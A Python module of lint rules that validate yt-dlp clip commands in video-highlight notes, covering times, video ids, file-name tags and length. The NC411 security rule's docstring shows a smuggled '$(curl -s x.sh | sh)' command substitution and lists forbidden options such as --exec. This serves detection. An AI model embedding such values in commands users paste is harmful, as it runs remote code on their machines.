"""NC4xx: highlights and their clip commands.

Each ``###`` block under Highlights is one unit: its thumbnail link (``t=`` = T), its
clip command (a fenced block, often inside ``<details>``, before the quote or after the
attribution: clip start C, end, ``-o`` tag G) and its quote's attribution link (A; its
label when valid, else its ``t=``).

The highlight's time H (one wrong value, one finding): H is T when T and A agree or
only one of them is there. When they differ, the clip votes: each of T and A scores
how many of C and G agree with it (``X - clip-lead-seconds <= value <= X``), then how
many equal it exactly; the higher score is H, a tie keeps T (the highlight's link).
The other one is the odd value, reported once by NC409 at its own text. NC403 compares
C with H, NC407 compares G with C (silent when C is already NC403's and G agrees with
H: the tag is right, the start is wrong). A time past ``duration`` is NC303's and takes
no part in the vote. So if T, C and G agree and A differs, only NC409 is reported, at A.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import Iterable

from ..clipcmd import ClipCall, parse_clip_command
from ..diagnostic import Finding, Fix
from ..note import Highlight, Note
from ..times import describe, render_tag
from . import ERROR, rule


def clip_calls(note: Note, hl: Highlight) -> list[ClipCall]:
    """The highlight's clip commands, parsed once per note (several rules read them).

    Kept on the note, keyed by what the parse reads (text and offset): an lru_cache
    shared by all notes thrashed on a note with more clips than its size.
    """
    cache = note.__dict__.setdefault("_clip_calls", {})
    out = []
    for clip in hl.clips:
        key = (clip.text, clip.start)
        call = cache.get(key)
        if call is None:
            call = cache[key] = parse_clip_command(clip.text, clip.start)
        out.append(call)
    return out


def all_highlight_times(note: Note, lead: float) -> list[HighlightTimes]:
    """``highlight_times`` of each of ``note.highlights``, computed once per note (four rules read them)."""
    highlights = note.highlights
    return note._cache(f"highlight_times {lead!r}", highlights,
                       lambda: [highlight_times(note, hl, lead) for hl in highlights])


@dataclass(frozen=True)
class _Time:
    seconds: int
    start: int
    end: int
    shown: str  # as written: "1:07:30" or "t=4050s"


@dataclass
class HighlightTimes:
    thumbnail: _Time | None = None  # T
    attribution: _Time | None = None  # A
    reference: int | None = None  # H
    odd: _Time | None = None  # T or A when they disagree: NC409 reports it
    odd_is_thumbnail: bool = False
    calls: list[ClipCall] = field(default_factory=list)


def _link_time(link, duration: int | None) -> _Time | None:
    if link is None:
        return None
    seconds, start, end = link.time_source
    if seconds is None or (duration is not None and seconds > duration):
        return None  # no time, or NC303's
    shown = link.label.strip() if start == link.label_start and not link.is_thumbnail else f"t={link.t_text}"
    return _Time(seconds, start, end, shown)


def highlight_times(note: Note, hl: Highlight, lead: float) -> HighlightTimes:
    """The highlight's reference time H and its odd value, as the module docstring says."""
    duration = note.duration
    out = HighlightTimes(_link_time(hl.thumbnail, duration), _link_time(hl.attribution_link, duration))
    out.calls = clip_calls(note, hl)
    t, a = out.thumbnail, out.attribution
    if t is None or a is None or t.seconds == a.seconds:
        out.reference = (t or a).seconds if (t or a) is not None else None
        return out
    first = next((c for c in out.calls if c.start is not None and not c.start.infinite), None)
    clip_values = []
    if first is not None:
        clip_values.append(first.start.seconds)
        if first.tag_seconds is not None:
            clip_values.append(first.tag_seconds)

    def score(x: int) -> tuple[int, int]:
        return (sum(x - lead <= v <= x for v in clip_values), sum(v == x for v in clip_values))

    if score(a.seconds) > score(t.seconds):
        out.reference, out.odd, out.odd_is_thumbnail = a.seconds, t, True
    else:
        out.reference, out.odd = t.seconds, a
    return out


def _start_off(call: ClipCall, reference: int | None, lead: float) -> bool:
    """NC403's condition."""
    if reference is None or call.start is None or call.start.infinite:
        return False
    return call.start.seconds > reference or call.start.seconds < reference - lead


def _bound_shown(bound) -> str:
    return f"{bound.text} ({bound.seconds:g} s)"


@rule("NC401", "missing-clip", summary="a highlight has no clip command")
def missing_clip(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A ``###`` highlight under Highlights without a fenced clip command.

    Why it matters:
        Every highlight offers the command that cuts its clip; without it the reader
        has to work out the range and the file name by hand.

    Bad:
        ### "Soil is the slowest technology we have"
        [![Clip](…/hqdefault.jpg)](…&t=95s)
        > "Soil is the slowest technology we have. …"

    Good:
        ### "Soil is the slowest technology we have"
        [![Clip](…/hqdefault.jpg)](…&t=95s)
        <details><summary>Clip command</summary>

        ```bash
        yt-dlp --download-sections "*1:35-2:40" "https://www.youtube.com/watch?v=aBcD3fGh1jK" --force-keyframes-at-cuts --merge-output-format mp4 -o "aBcD3fGh1jK-1m35s.mp4"
        ```
        </details>
    """
    for hl in note.highlights:
        if not hl.clips:
            h = hl.heading
            yield Finding(h.title_start if h.title else h.start, f"highlight {h.title or '(untitled)'} has no clip command",
                          end=h.end)


@rule("NC402", "unparseable-clip", summary="a clip command cannot be parsed as one yt-dlp call")
def unparseable_clip(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A clip command that is not one ``yt-dlp --download-sections "*START-END" URL …``
        call: an unclosed quote, no ``--download-sections`` or a chapter name instead of
        a ``*`` range, a bound that is not a time, several ranges or URLs, no URL, an
        option without its value. Read with ``shlex``, never a shell.

    Why it matters:
        The command fails, or downloads the whole video, when pasted into a terminal;
        and the other NC4xx rules cannot check it.

    Bad:
        yt-dlp --download-sections "*9:25" "https://www.youtube.com/watch?v=lXUZvyajciY"

    Good:
        yt-dlp --download-sections "*9:25-10:00" "https://www.youtube.com/watch?v=lXUZvyajciY"
    """
    for hl in note.highlights:
        for call in clip_calls(note, hl):
            for issue in call.parse_issues:
                yield Finding(issue.offset, issue.message)


@rule("NC403", "clip-start", summary="the clip does not start at the highlight's time")
def clip_start(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A clip that starts after the highlight's time (the quoted moment is cut off), or
        more than ``clip-lead-seconds`` (default 10) before it. The highlight's time is
        its thumbnail link's ``t=`` and its attribution's time; when those two differ,
        the one the clip agrees with (NC409 reports the other). Reported at the start bound.

    Why it matters:
        The clip is the highlight's evidence: it must hold the words quoted.

    Bad:
        [![Clip](…)](…&t=565s)  yt-dlp --download-sections "*9:52-10:30" …

    Good:
        [![Clip](…)](…&t=565s)  yt-dlp --download-sections "*9:25-10:00" …
        (a start up to 10 s earlier, ``*9:20-10:00``, is fine too)
    """
    lead = ctx.config.clip_lead_seconds
    for times in all_highlight_times(note, lead):
        h = times.reference
        for call in times.calls:
            if not _start_off(call, h, lead):
                continue
            b = call.start
            if b.seconds > h:
                message = (f"clip starts at {_bound_shown(b)}, after the highlight's time {describe(h)}: "
                           f"the quoted moment is cut off")
            else:
                message = (f"clip starts at {_bound_shown(b)}, {h - b.seconds:g} s before the highlight's time "
                           f"{describe(h)}; at most clip-lead-seconds = {lead:g}")
            yield Finding(b.start, message, end=b.end)


@rule("NC404", "clip-end-before-start", summary="clip end is not after clip start")
def clip_end_before_start(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A clip range whose end is not after its start (``*10:00-9:25``, ``*9:25-9:25``),
        at the end bound.

    Why it matters:
        yt-dlp cuts nothing, or fails.

    Bad:
        yt-dlp --download-sections "*10:00-9:25" …

    Good:
        yt-dlp --download-sections "*9:25-10:00" …
    """
    for hl in note.highlights:
        for call in clip_calls(note, hl):
            if call.start is None or call.end is None or call.end.infinite:
                continue
            if call.end.seconds <= call.start.seconds:
                yield Finding(call.end.start, f"clip end {_bound_shown(call.end)} is not after its start "
                              f"{_bound_shown(call.start)}", end=call.end.end)


@rule("NC405", "clip-end-past-duration", summary="clip end lies past duration")
def clip_end_past_duration(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A clip range that ends after the end of the video (front matter ``duration``),
        at the end bound; ``inf`` (to the end) is fine. Silent without a valid duration.

    Why it matters:
        A typo in the end; the clip is not what its author meant.

    Bad:
        duration: 8768
        yt-dlp --download-sections "*2:24:00-2:30:00" …

    Good:
        yt-dlp --download-sections "*2:24:00-2:25:10" …
    """
    duration = note.duration
    if duration is None:
        return
    for hl in note.highlights:
        for call in clip_calls(note, hl):
            if call.start is None or call.end is None or call.end.infinite:
                continue
            if call.end.seconds > duration and call.end.seconds > call.start.seconds:
                yield Finding(call.end.start, f"clip end {_bound_shown(call.end)} is past the video's duration "
                              f"{describe(duration)}", end=call.end.end)


@rule("NC406", "clip-video-id", summary="the clip command's video id differs from video_id", fix="safe")
def clip_video_id(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A clip command whose URL (or bare id) names another video than ``video_id``.

    Why it matters:
        The command cuts a clip out of the wrong video: a copy-paste slip.

    Bad:
        video_id: lXUZvyajciY
        yt-dlp --download-sections "*9:25-10:00" "https://www.youtube.com/watch?v=aBcD3fGh1jK" …

    Good:
        yt-dlp --download-sections "*9:25-10:00" "https://www.youtube.com/watch?v=lXUZvyajciY" …

    Fix:
        Replaces the id in the URL with ``video_id``.
    """
    video_id = note.video_id
    if video_id is None:
        return
    for hl in note.highlights:
        for call in clip_calls(note, hl):
            if call.video_id is None or call.id_start is None or call.video_id == video_id:
                continue
            fix = None
            if call.id_end is not None:
                fix = Fix.replace(call.id_start, call.id_end, video_id, description="use the note's video_id")
            yield Finding(call.id_start, f"clip command video id {call.video_id} differs from video_id {video_id}",
                          end=call.id_end, fix=fix)


@rule("NC407", "clip-output-tag", summary="the -o file name's time tag differs from the clip start", fix="safe")
def clip_output_tag(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        An ``-o`` file name with a time tag (``lXUZvyajciY-9m25s.mp4``) naming another
        time than the clip start (whole seconds). Slug names (``cpu-runs-the-world.mp4``)
        carry no tag and are fine. When the start is off (NC403) and the tag agrees with
        the highlight, the start is the defect and the tag is left alone.

    Why it matters:
        The file name is how clips are found again; a wrong tag points to another moment.

    Bad:
        --download-sections "*104:00-105:10" … -o "lXUZvyajciY-140m00s.mp4"

    Good:
        --download-sections "*104:00-105:10" … -o "lXUZvyajciY-104m00s.mp4"

    Fix:
        Rewrites the tag from the clip start (``104m00s``).
    """
    lead = ctx.config.clip_lead_seconds
    for times in all_highlight_times(note, lead):
        h = times.reference
        for call in times.calls:
            if call.tag_seconds is None or call.tag_start is None or call.start is None or call.start.infinite:
                continue
            start = int(call.start.seconds)
            if call.tag_seconds == start:
                continue
            if _start_off(call, h, lead) and h - lead <= call.tag_seconds <= h:
                continue  # the start is wrong, the tag is right: NC403 says so
            good = render_tag(start)
            fix = None
            if call.tag_end is not None:
                fix = Fix.replace(call.tag_start, call.tag_end, good, description="rewrite the tag from the clip start")
            yield Finding(call.tag_start, f"-o tag {call.tag_text} ({call.tag_seconds} s) differs from the clip start "
                          f"{_bound_shown(call.start)}; write {good}", end=call.tag_end, fix=fix)


@rule("NC408", "clip-length", summary="clip length outside the configured bounds (default 5-600 s)")
def clip_length(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A clip shorter or longer than ``clip-seconds = [min, max]`` (default 5-600 s),
        reported at the start bound. Only when the end is after the start (else NC404),
        the end within the video (else NC405) and the start at the highlight's time
        (else NC403): one wrong bound, one finding. ``inf`` counts to ``duration``.

    Why it matters:
        A 2-second clip cannot hold a quote; a 20-minute clip is not a highlight.

    Bad:
        yt-dlp --download-sections "*9:25-29:25" …

    Good:
        yt-dlp --download-sections "*9:25-10:00" …
    """
    lo, hi = ctx.config.clip_seconds
    lead = ctx.config.clip_lead_seconds
    duration = note.duration
    for times in all_highlight_times(note, lead):
        for call in times.calls:
            if call.start is None or call.end is None:
                continue
            end = call.end.seconds
            if math.isinf(end):
                if duration is None:
                    continue
                end = float(duration)
            elif duration is not None and end > duration:
                continue  # NC405
            length = end - call.start.seconds
            if length <= 0 or _start_off(call, times.reference, lead):
                continue  # NC404 / NC403
            if lo <= length <= hi:
                continue
            shape = "shorter than" if length < lo else "longer than"
            yield Finding(call.start.start, f"clip {call.start.text}-{call.end.text} is {length:g} s long, {shape} "
                          f"clip-seconds [{lo:g}, {hi:g}]", end=call.end.end)


@rule("NC409", "attribution-time", summary="the quote attribution's time differs from the highlight's link time")
def attribution_time(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A highlight whose thumbnail link ``t=`` and quote attribution time disagree. The
        clip command decides which of the two is wrong (the one its start and ``-o`` tag
        agree with is right; a tie keeps the thumbnail link), and the finding stands on
        the wrong one: usually the attribution label, the thumbnail's ``t=`` when the
        clip sides with the attribution.

    Why it matters:
        The thumbnail, the clip and the attribution all point at one moment; a reader
        who follows one of them must see what the others promise.

    Bad:
        [![Clip](…)](…&t=4050s)  "*67:30-68:40"  > -- Andrej Karpathy, [1:07:40](…&t=4060s)

    Good:
        [![Clip](…)](…&t=4050s)  "*67:30-68:40"  > -- Andrej Karpathy, [1:07:30](…&t=4050s)
    """
    lead = ctx.config.clip_lead_seconds
    for times in all_highlight_times(note, lead):
        odd = times.odd
        if odd is None or times.reference is None:
            continue
        if times.odd_is_thumbnail:
            message = (f"thumbnail link {odd.shown} ({odd.seconds} s) differs from the attribution "
                       f"{times.attribution.shown} ({times.reference} s), which the clip command agrees with")
        else:
            message = (f"attribution {odd.shown} ({odd.seconds} s) differs from the highlight's link "
                       f"{times.thumbnail.shown} ({times.reference} s)")
        yield Finding(odd.start, message, end=odd.end)


@rule("NC410", "thumbnail-image-id", summary="the highlight thumbnail image's video id differs from video_id", fix="safe")
def thumbnail_image_id(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        A highlight thumbnail whose image (``img.youtube.com/vi/<id>/…`` or
        ``i.ytimg.com/vi_webp/<id>/…``) belongs to another video than ``video_id``.

    Why it matters:
        The highlight shows another video's picture: a copy-paste slip.

    Bad:
        [![Clip](https://img.youtube.com/vi/aBcD3fGh1jK/hqdefault.jpg)](https://www.youtube.com/watch?v=lXUZvyajciY&t=565s)

    Good:
        [![Clip](https://img.youtube.com/vi/lXUZvyajciY/hqdefault.jpg)](https://www.youtube.com/watch?v=lXUZvyajciY&t=565s)

    Fix:
        Replaces the id in the image URL with ``video_id``.
    """
    video_id = note.video_id
    if video_id is None:
        return
    for hl in note.highlights:
        thumb = hl.thumbnail
        if thumb is None or thumb.image_id is None or thumb.image_id_start is None or thumb.image_id == video_id:
            continue
        end = thumb.image_id_start + len(thumb.image_id)
        yield Finding(thumb.image_id_start, f"thumbnail image video id {thumb.image_id} differs from video_id {video_id}",
                      end=end, fix=Fix.replace(thumb.image_id_start, end, video_id, description="use the note's video_id"))


@rule("NC411", "clip-beyond-yt-dlp", summary="a clip command carries more than the one yt-dlp call")
def clip_beyond_yt_dlp(note: Note, ctx) -> Iterable[Finding]:
    """
    What it finds:
        Anything in a clip command beyond the one yt-dlp call: shell metacharacters
        outside quotes (``;`` ``&&`` ``&`` ``|`` ``>`` ``<``), command substitution
        (`` ` ``, ``$(``) or expansions (``$HOME``) anywhere but inside single quotes, a
        second command on another line, a program other than yt-dlp, an option yt-dlp
        does not have, or one that runs or loads something else (``--exec``,
        ``--downloader``, ``--use-postprocessor``, ``--config-locations``, ``-a``,
        credentials, ``-U``). An unquoted URL with ``&`` is caught here too: the shell
        would cut the command at the ``&``. One finding per clip command, at its first
        such problem; the message counts the others (``(and 4 more in this command)``).
        A security finding: severity error, never fixed automatically.

    Why it matters:
        Readers paste clip commands into a terminal. A note is text anyone can edit or
        generate; it must not be able to make that paste run something else.

    Bad:
        yt-dlp --download-sections "*9:25-10:00" "https://www.youtube.com/watch?v=lXUZvyajciY" -o "$(curl -s x.sh | sh).mp4"

    Good:
        yt-dlp --download-sections "*9:25-10:00" "https://www.youtube.com/watch?v=lXUZvyajciY" -o "lXUZvyajciY-9m25s.mp4"
    """
    for hl in note.highlights:
        for call in clip_calls(note, hl):
            issues = call.security_issues
            if not issues:
                continue
            first = min(issues, key=lambda issue: issue.offset)  # the first in the text (ties: first found)
            more = f" (and {len(issues) - 1} more in this command)" if len(issues) > 1 else ""
            yield Finding(first.offset, first.message + more, severity=ERROR)
